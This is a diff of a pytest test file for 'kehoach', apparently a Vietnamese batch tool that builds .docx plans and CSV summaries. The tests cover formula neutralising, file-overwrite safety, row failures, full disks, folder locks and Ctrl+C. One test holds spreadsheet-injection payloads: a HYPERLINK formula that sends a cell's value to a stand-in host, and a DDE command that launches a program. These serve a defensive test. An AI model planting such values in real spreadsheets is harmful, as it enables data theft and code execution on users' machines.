@@ -13,9 +13,8 @@ import time
 from pathlib import Path
 
 import pytest
-from clirun import run
 from docxread import open_docx
-from test_batch import HEADER, PLAN, ROSTER, school_a, school_b, summary
+from support import HEADER, PLAN, ROSTER, run, school_a, school_b, summary
 
 PLACES = ["Đại Kim", "Định Công", "Giáp Bát", "Hoàng Liệt", "Lĩnh Nam", "Mai Động", "Tân Mai", "Yên Sở"]
 
@@ -52,7 +51,7 @@ def assert_summary_is_the_folder(outdir: Path) -> list[dict]:
 # ---------------------------------------------------------------- spreadsheets and file names
 
 
-def test_summary_cells_a_spreadsheet_would_run_are_made_inert(tmp_path, capsys, monkeypatch):
+def test_summary_cells_a_spreadsheet_would_run_are_made_inert(tmp_path):
     formulas = ['=HYPERLINK("http://vi-du.invalid/?d="&A1;"Bấm vào đây")', "=cmd|' /C calc'!A0", "+SUM(1;2)", "-2+3",
                 "@SUM(A1:A9)"]
     pairs = [(school_a(), school_b())]
@@ -64,7 +63,7 @@ def test_summary_cells_a_spreadsheet_would_run_are_made_inert(tmp_path, capsys, 
         pairs.append((first, second))
     roster = csv_roster(tmp_path / "ds.csv", pairs)
     outdir = tmp_path / "out"
-    code, out, err = run(capsys, monkeypatch, "batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
+    code, out, err = run("batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
     assert code == 0, err
     rows = assert_summary_is_the_folder(outdir)
     names = [r["Trường 1"] for r in rows[1:]] + [r["Trường 2"] for r in rows[1:]]
@@ -92,30 +91,30 @@ def test_tab_and_carriage_return_at_a_cells_start_are_made_inert_too(tmp_path):
 # ---------------------------------------------------------------- files are safe
 
 
-def test_the_summary_never_replaces_an_input_or_a_file_kehoach_did_not_write(tmp_path, capsys, monkeypatch):
+def test_the_summary_never_replaces_an_input_or_a_file_kehoach_did_not_write(tmp_path):
     outdir = tmp_path / "out"
     outdir.mkdir()
     roster = csv_roster(outdir / "tong-hop.csv", [(school_a(), school_b())])  # the roster where the summary goes
     kept = roster.read_bytes()
-    code, out, err = run(capsys, monkeypatch, "batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
+    code, out, err = run("batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
     assert code == 3 and f"{roster}: tệp kết quả trùng với một tệp đầu vào" in err
     assert roster.read_bytes() == kept and sorted(p.name for p in outdir.iterdir()) == ["tong-hop.csv"]
     other = tmp_path / "ds.csv"
     roster.rename(other)
     (outdir / "tong-hop.csv").write_text("Bảng tổng hợp của văn thư\n", "utf-8")  # a clerk's own file of that name
-    code, out, err = run(capsys, monkeypatch, "batch", str(other), "--plan", str(PLAN), "-o", str(outdir))
+    code, out, err = run("batch", str(other), "--plan", str(PLAN), "-o", str(outdir))
     assert code == 3 and "không phải tệp do kehoach tạo nên không ghi đè" in err
     assert sorted(p.name for p in outdir.iterdir()) == ["tong-hop.csv"]
     (outdir / "tong-hop.csv").unlink()
-    assert run(capsys, monkeypatch, "batch", str(other), "--plan", str(PLAN), "-o", str(outdir))[0] == 0
-    assert run(capsys, monkeypatch, "batch", str(other), "--plan", str(PLAN), "-o", str(outdir))[0] == 0  # its own summary
+    assert run("batch", str(other), "--plan", str(PLAN), "-o", str(outdir))[0] == 0
+    assert run("batch", str(other), "--plan", str(PLAN), "-o", str(outdir))[0] == 0  # its own summary
 
 
 # ---------------------------------------------------------------- a row never stops the batch
 
 
 @pytest.mark.parametrize("where", ["kehoach.pipeline.compose", "kehoach.batch.write_atomic"])
-def test_an_unexpected_failure_on_one_row_is_that_rows_error(where, tmp_path, capsys, monkeypatch):
+def test_an_unexpected_failure_on_one_row_is_that_rows_error(where, tmp_path, monkeypatch):
     import importlib
 
     module, name = where.rsplit(".", 1)
@@ -129,7 +128,7 @@ def test_an_unexpected_failure_on_one_row_is_that_rows_error(where, tmp_path, ca
     monkeypatch.setattr(where, broken)
     roster = csv_roster(tmp_path / "ds.csv", many_pairs(4))
     outdir = tmp_path / "out"
-    code, out, err = run(capsys, monkeypatch, "batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
+    code, out, err = run("batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
     assert code == 70
     rows = assert_summary_is_the_folder(outdir)
     assert [r["Trạng thái"] for r in rows] == ["đã tạo", "đã tạo", "lỗi", "đã tạo"]
@@ -138,13 +137,13 @@ def test_an_unexpected_failure_on_one_row_is_that_rows_error(where, tmp_path, ca
     assert "Xong: đã tạo 3, lỗi 1, bỏ qua 0." in out and hidden(outdir) == []
 
 
-def test_a_date_a_docx_cannot_carry_fails_its_row_only(tmp_path, capsys, monkeypatch):
+def test_a_date_a_docx_cannot_carry_fails_its_row_only(tmp_path):
     roster = csv_roster(tmp_path / "ds.csv", many_pairs(3))
     text = roster.read_text("utf-8-sig").splitlines()
     text[2] = text[2].replace("16/9/2025", "16/9/1925")  # a typo for 2025: before the ZIP format's 1980
     roster.write_text("\n".join(text) + "\n", "utf-8-sig")
     outdir = tmp_path / "out"
-    code, out, err = run(capsys, monkeypatch, "batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
+    code, out, err = run("batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
     assert code != 0 and "Traceback" not in err
     rows = assert_summary_is_the_folder(outdir)
     assert [r["Trạng thái"] for r in rows] == ["đã tạo", "lỗi", "đã tạo"]
@@ -187,13 +186,13 @@ class Metered:
 
 
 @pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="finds a descriptor's file through /proc (Linux)")
-def test_a_full_disk_ends_the_run_with_a_message_and_a_summary_of_what_was_done(tmp_path, capsys, monkeypatch):
+def test_a_full_disk_ends_the_run_with_a_message_and_a_summary_of_what_was_done(tmp_path, monkeypatch):
     roster = csv_roster(tmp_path / "ds.csv", many_pairs(8))
     outdir = tmp_path / "out"
     outdir.mkdir()
     (outdir / "TH Đại Kim 0 - TH Hòa Lâm 0.docx").write_bytes(b"the previous run's file")
     monkeypatch.setattr(os, "fdopen", FullDisk(outdir, room=20_000).fdopen)  # two plans fit, and the summary
-    code, out, err = run(capsys, monkeypatch, "batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
+    code, out, err = run("batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
     assert code == 3
     assert err.count("ổ đĩa đã đầy") == 1 and "Lỗi nội bộ" not in err and "Traceback" not in err  # said once
     assert "Đã dừng: đã tạo 2, lỗi 0, bỏ qua 0." in out
@@ -204,13 +203,13 @@ def test_a_full_disk_ends_the_run_with_a_message_and_a_summary_of_what_was_done(
     assert hidden(outdir) == []  # no temporary, no lock
 
 
-def test_a_second_batch_into_a_folder_in_use_is_refused(tmp_path, capsys, monkeypatch):
+def test_a_second_batch_into_a_folder_in_use_is_refused(tmp_path):
     from kehoach.output import FolderLock
 
     roster = csv_roster(tmp_path / "ds.csv", many_pairs(2))
     outdir = tmp_path / "out"
     with FolderLock(outdir):  # a batch of this (living) process is writing there
-        code, out, err = run(capsys, monkeypatch, "batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
+        code, out, err = run("batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
         assert code == 6
         assert err.startswith(f"{outdir}: thư mục đang được một lần chạy batch khác ghi vào (tiến trình {os.getpid()}")
         assert sorted(p.name for p in outdir.iterdir()) == [".kehoach.lock"]  # nothing written
@@ -220,7 +219,7 @@ def test_a_second_batch_into_a_folder_in_use_is_refused(tmp_path, capsys, monkey
     import socket
 
     (outdir / ".kehoach.lock").write_text(f"{dead.stdout.strip()}\n{socket.gethostname()}\n", "utf-8")
-    code, out, err = run(capsys, monkeypatch, "batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
+    code, out, err = run("batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
     assert code == 0 and f"(tiến trình {dead.stdout.strip()}) đã bị dừng giữa chừng" in err
     assert hidden(outdir) == [] and len(summary(outdir)) == 2
 
@@ -244,14 +243,14 @@ def wait_for_files(outdir: Path, count: int, process: subprocess.Popen, limit: f
 
 
 @pytest.mark.skipif(sys.platform != "linux", reason="signals to a process group")
-def test_ctrl_c_with_two_jobs_stops_with_a_message_a_whole_summary_and_exit_130(tmp_path, capsys, monkeypatch):
+def test_ctrl_c_with_two_jobs_stops_with_a_message_a_whole_summary_and_exit_130(tmp_path):
     roster = csv_roster(tmp_path / "ds.csv", many_pairs(2000))  # far more than it can do before the Ctrl+C
     outdir = tmp_path / "out"
     process = start_batch(roster, outdir, "--jobs", "2")
     try:
         wait_for_files(outdir, 4, process)
         # meanwhile a second batch into the same folder is refused, and writes nothing
-        code, out, err = run(capsys, monkeypatch, "batch", str(ROSTER), "--plan", str(PLAN), "-o", str(outdir))
+        code, out, err = run("batch", str(ROSTER), "--plan", str(PLAN), "-o", str(outdir))
         assert code == 6 and "đang được một lần chạy batch khác ghi vào" in err
         os.killpg(process.pid, signal.SIGINT)
         out, err = process.communicate(timeout=60)
